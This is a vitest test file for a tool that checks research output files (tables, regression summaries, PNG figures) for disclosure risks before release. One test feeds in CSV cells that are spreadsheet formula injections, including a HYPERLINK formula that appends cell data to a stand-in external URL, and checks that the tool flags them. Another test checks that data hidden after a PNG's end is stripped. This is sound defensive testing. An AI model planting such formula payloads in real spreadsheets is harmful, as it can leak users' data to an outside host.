import { describe, expect, it } from "vitest";
import { HIDDEN_ROWS, plainPng, pngWithHiddenRows } from "../images/test-fixtures";
import { checkOutput, checkOutputFile } from "./check-file";

const text = (s: string) => new TextEncoder().encode(s);
const names = (report: { checks: Array<{ name: string; status: string }> }) =>
  report.checks.map((c) => `${c.name}:${c.status}`);

describe("what a file is, whatever it was declared as", () => {
  it("checks a CSV declared 'other' as the frequency table it is", async () => {
    const report = await checkOutputFile({
      bytes: text("region,count\nA,120\nB,3\n"),
      name: "results/misc.csv",
      type: "other",
      profile: "default",
    });
    expect(report.status).toBe("fail");
    expect(names(report)).toEqual(["declared-type:review", "threshold:fail", "zeros:pass", "formula-cells:pass"]);
    expect(report.cells).toMatchObject([{ row: 2, column: "count", status: "fail" }]);
  });

  it.each([
    ["a magnitude table in a .txt", "text", "notes.txt", "g,value,n,max1,max2\nA,100,3,60,30\n", "magnitude", "fail"],
    ["a regression CSV declared code", "code", "model.txt", "term,df_resid\nage,4\n", "regression", "fail"],
    ["counts under 'antal', semicolons", "other", "lan.csv", "län;antal\nNorrbotten;12\n", "frequency", "pass"],
    ["a table of no known kind", "text", "notes.md", "a\tb\n1\t2\n", "table", "review"],
  ])("%s", async (_, type, name, content, kind, checksStatus) => {
    const report = await checkOutputFile({ bytes: text(content), name, type: type as "other", profile: "default" });
    expect(report.checks[0]).toMatchObject({ name: "declared-type", status: "review" });
    expect(report.checks[0]!.says).toEqual({ phrase: { key: `reads-as-${kind}` } });
    const rest = report.checks.slice(1, -1).map((c) => c.status);
    if (kind !== "table") expect(rest).toContain(checksStatus === "pass" ? "pass" : "fail");
  });

  it("checks a JSON summary declared 'other' as a regression", async () => {
    const report = await checkOutputFile({
      bytes: text(JSON.stringify({ model: "ols", df_resid: 3 })),
      name: "fit.json",
      type: "other",
      profile: "default",
    });
    expect(names(report)).toEqual(["declared-type:review", "residual-df:fail"]);
  });

  it("leaves prose and code to a person", async () => {
    const report = await checkOutputFile({
      bytes: text("import pandas as pd\nprint(pd.__version__)\n"),
      name: "analysis.py",
      type: "code",
      profile: "default",
    });
    expect(names(report)).toEqual(["manual-review:review"]);
  });

  it("refuses a file whose content is not what its name says", async () => {
    const png = await plainPng();
    await expect(
      checkOutputFile({ bytes: png, name: "table.csv", type: "other", profile: "default" }),
    ).rejects.toMatchObject({ code: "OUTPUT_FILE_UNREADABLE", message: expect.stringMatching(/is a PNG image/) });
    await expect(
      checkOutputFile({ bytes: text("a,count\nx,12\n"), name: "figure.png", type: "figure", profile: "default" }),
    ).rejects.toMatchObject({ code: "OUTPUT_FILE_UNREADABLE", message: expect.stringMatching(/is text/) });
    await expect(
      checkOutputFile({ bytes: text("<svg></svg>"), name: "figure.txt", type: "text", profile: "default" }),
    ).rejects.toMatchObject({ message: expect.stringMatching(/save the figure as PNG/) });
  });
});

describe("formula cells", () => {
  it("flags cells (and a header) a spreadsheet would run, in every table, for review", async () => {
    const report = await checkOutputFile({
      bytes: text('region,count,=cmd\n"=HYPERLINK(""https://x.example/?""&A3,""x"")",120,-5\n@SUM(A1),130,-\n'),
      type: "frequency",
      profile: "default",
      detail: true,
    });
    expect(report.status).toBe("review");
    expect(report.checks.at(-1)).toMatchObject({ name: "formula-cells", status: "review" });
    expect(report.cells.map((c) => [c.row, c.column])).toEqual([
      [0, "=cmd"],
      [1, "region"],
      [2, "region"],
      [2, "=cmd"],
    ]);
    expect(report.cells[1]!.reasons[0]).toMatch(/^"=HYPERLINK\(.*starts like a spreadsheet formula/);
  });
});

describe("images", () => {
  it("re-encodes the PNG with hidden rows and tells checkers what it carried", async () => {
    const png = await pngWithHiddenRows();
    const { report, released } = await checkOutput({
      bytes: png,
      name: "fig.png",
      type: "figure",
      profile: "default",
      detail: true,
    });
    expect(names(report)).toEqual(["image-content:review", "manual-review:review"]);
    expect(report.checks[0]!.message).toMatch(
      /64 × 32 pixels, PNG, \d+ bytes\) carried more than its pixels: text \d+ bytes, metadata 0 bytes, unknown chunks 0 bytes, after the image's end 3799 bytes \(tEXt, EOF\+\)/,
    );
    expect(released).toBeDefined();
    expect(released!.includes(Buffer.from(HIDDEN_ROWS.slice(0, 30)))).toBe(false);
    // The researcher's report says that something was found, not what.
    const plain = await checkOutputFile({ bytes: png, name: "fig.png", type: "figure", profile: "default" });
    expect(plain.checks[0]!.message).not.toMatch(/\d/);
  });

  it("passes the image content of a plain figure, which still goes to a person", async () => {
    const { report, released } = await checkOutput({
      bytes: await plainPng(),
      name: "fig.png",
      type: "other",
      profile: "default",
    });
    expect(names(report)).toEqual(["image-content:pass", "manual-review:review"]);
    expect(released).toBeDefined();
  });
});

describe("histograms and survival tables declared as something else", () => {
  it.each([
    ["a histogram", "lower,upper,count\n,20,14\n20,30,4\n30,,11\n", "histogram", "threshold:fail"],
    ["a survival table", "time,n_risk,n_event\n0,40,0\n5,38,2\n", "survival", "events:fail"],
  ])("%s is checked as one", async (_, content, kind, failing) => {
    const report = await checkOutputFile({ bytes: text(content), name: "x.csv", type: "other", profile: "default" });
    expect(report.checks[0]!.says).toEqual({ phrase: { key: `reads-as-${kind}` } });
    expect(names(report)).toContain(failing);
  });
});
